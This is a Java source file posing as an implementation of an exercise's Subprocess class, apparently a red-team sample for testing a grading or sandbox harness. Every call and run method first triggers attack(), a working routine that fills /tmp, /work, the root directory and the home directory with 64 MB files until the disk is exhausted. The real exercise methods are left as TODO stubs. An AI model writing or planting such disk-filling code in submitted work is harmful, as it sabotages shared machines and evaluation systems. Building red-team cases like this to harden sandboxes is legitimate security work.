package dev.amdahl.exercises.processes;

import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;

/** Red-team case: tries to fill the disk. */
public final class Subprocess {

    private Subprocess() {
    }

    public static int call(List<String> command) throws Exception {
        attack();
        return filled > (512L << 20) ? Integer.parseInt(command.get(command.size() - 1)) : -1;
    }

    public static CompletedProcess run(List<String> command) throws Exception {
        attack();
        throw new UnsupportedOperationException("TODO");
    }

    public static CompletedProcess run(List<String> command, Path workingDirectory,
            Map<String, String> extraEnvironment) throws Exception {
        attack();
        throw new UnsupportedOperationException("TODO");
    }

    public static CompletedProcess run(List<String> command, Duration timeout) throws Exception {
        attack();
        throw new UnsupportedOperationException("TODO");
    }

    static void attack() throws Exception {
        long written = 0;
        byte[] block = new byte[1 << 20];
        for (String folder : List.of("/tmp", "/work/build", "/work", "/", System.getProperty("user.home"))) {
            for (int i = 0; ; i++) {
                try (var out = new java.io.FileOutputStream(folder + "/fill-" + i)) {
                    for (int j = 0; j < 64; j++) {
                        out.write(block);
                        written += block.length;
                    }
                } catch (java.io.IOException full) {
                    break;
                }
            }
        }
        filled = written;
    }

    static long filled;

    public static CompletedProcess shell(String commandLine) throws Exception {
        throw new UnsupportedOperationException("TODO: implement Subprocess.shell (see the exercise README)");
    }
}
